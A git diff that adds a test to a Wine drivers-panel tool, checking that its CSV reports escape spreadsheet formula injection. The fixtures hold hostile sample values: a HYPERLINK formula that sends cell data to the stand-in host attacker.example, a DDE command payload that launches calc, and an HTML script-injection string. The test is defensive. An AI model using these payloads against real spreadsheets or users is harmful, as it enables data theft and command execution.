@@ -16,6 +16,9 @@ import { driveC, startBench, testPrefix, windowsPath, type Bench } from './wineB
 
 /** Registered parameters as a hostile or careless installer might write them. */
 const hostile = 'fixture.dll name=fx.hostile query=0 <script>alert("x")</script> a,b "c" & </td>';
+/** An alias and parameters that a spreadsheet would run as formulas. */
+const formulaAlias = '=HYPERLINK("http://attacker.example/?"&A1,"Details")';
+const formulaParameters = '+cmd|\' /C calc\'!A0 name=fx.formula';
 const drivers32 = 'HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Drivers32';
 
 describe('support reports', () => {
@@ -135,5 +138,33 @@ describe('support reports', () => {
     const error = (JSON.parse(run.stdout) as { error: { code: string; message: string } }).error;
     assert.equal(error.code, 'write-failed');
     assert.match(error.message, /Choose a folder that exists/);
+  });
+});
+
+describe('CSV reports opened in a spreadsheet', () => {
+  let bench: Bench | undefined;
+
+  before(async () => {
+    bench = await startBench();
+    registerFixtures(testPrefix, bench.env, { [formulaAlias]: 'fixture.dll name=fx.formula query=0', 'fx.formula': `fixture.dll ${formulaParameters}` });
+  });
+  after(() => {
+    if (bench) registerFixtures(testPrefix, bench.env);
+    bench?.stop();
+    rmSync(join(driveC, 'formulas.csv'), { force: true });
+    rmSync(join(driveC, 'formulas-state'), { recursive: true, force: true });
+  });
+
+  it('writes CSV that a spreadsheet does not run: cells that would start a formula begin with a single quote', { timeout: 60_000 }, async () => {
+    const file = join(driveC, 'formulas.csv');
+    const run = await runCli({ ...bench?.env, WINEPREFIX: testPrefix, DRIVERS_PANEL_STATE_DIR: windowsPath(join(driveC, 'formulas-state')) }, ['report', '--format', 'csv', '--out', windowsPath(file)]);
+    assert.equal(run.status, 0, run.stderr);
+    const rows: Array<Record<string, string>> = parse(readFileSync(file, 'utf8'), { columns: true });
+    assert.ok(rows.some((r) => r.alias === `'${formulaAlias}`), 'the alias is neutralised');
+    assert.equal(rows.find((r) => r.alias === 'fx.formula')?.parameters, `'${formulaParameters}`);
+    assert.equal(rows.find((r) => r.alias === 'vidc.cvid')?.DRV_QUERYCONFIGURE, '-1', 'a number stays a number');
+    for (const row of rows) {
+      for (const [field, value] of Object.entries(row)) assert.doesNotMatch(value, /^[=+@\t\r]|^-(?!\d+$)/, `${row.alias}: ${field}`);
+    }
   });
 });
